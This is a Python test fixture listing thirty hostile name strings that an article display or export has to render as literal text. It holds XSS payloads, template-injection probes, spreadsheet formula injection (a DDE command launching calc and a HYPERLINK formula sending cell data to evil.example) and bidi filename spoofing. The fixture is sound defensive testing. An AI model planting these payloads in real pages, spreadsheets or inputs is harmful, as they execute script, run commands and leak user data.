"""Thirty names that an attacker, a broken page or an odd registry may put into an article.

Whatever shows a name (the page, a card, a table, an export) must show each of these as the very text it is, and nothing
of it may be run, obeyed, followed or lost. NUL and lone surrogates are not here: no graph holds them, since repair
takes them out and Turtle cannot write them.
"""

HOSTILE_NAMES: tuple[str, ...] = (
    "<script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "<!--<script>",
    "]]><svg onload=\"document.title='owned'\">",
    "\"'><img src=x onerror=\"document.title='owned'\">",
    "<a href=\"javascript:document.title='owned'\">甲县</a>",
    "javascript:document.title='owned'",
    "data:text/html,<script>document.title='owned'</script>",
    "</style><style>*{display:none}</style>",
    "&lt;b&gt;甲&amp;乙&#39;",
    "{{7*7}}{%for x in y%}${7*7}",
    '\\u003cscript\\u003e\\n\\"',
    "甲\"乙'丙`丁\\戊",
    "a|b|c **粗** _斜_ [链](javascript:alert(1))",
    '=HYPERLINK("http://evil.example/?"&A1,"甲")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "＝1＋1",
    "\t=1+1",
    '甲,乙;丙""丁',
    "甲\n乙\r\n丙",
    "\u202eegap.exe\u202c",
    "\u200f\u2067甲\u2069乙",
    "\u200b\ufeff甲\u2028乙\u2029丙",
    "\x1b[2J\x1b[31m甲\x07",
    "😀👨‍👩‍👧甲\U00020000",
    "__proto__",
    "长" * 10_000,
)
assert len(HOSTILE_NAMES) == len(set(HOSTILE_NAMES)) == 30
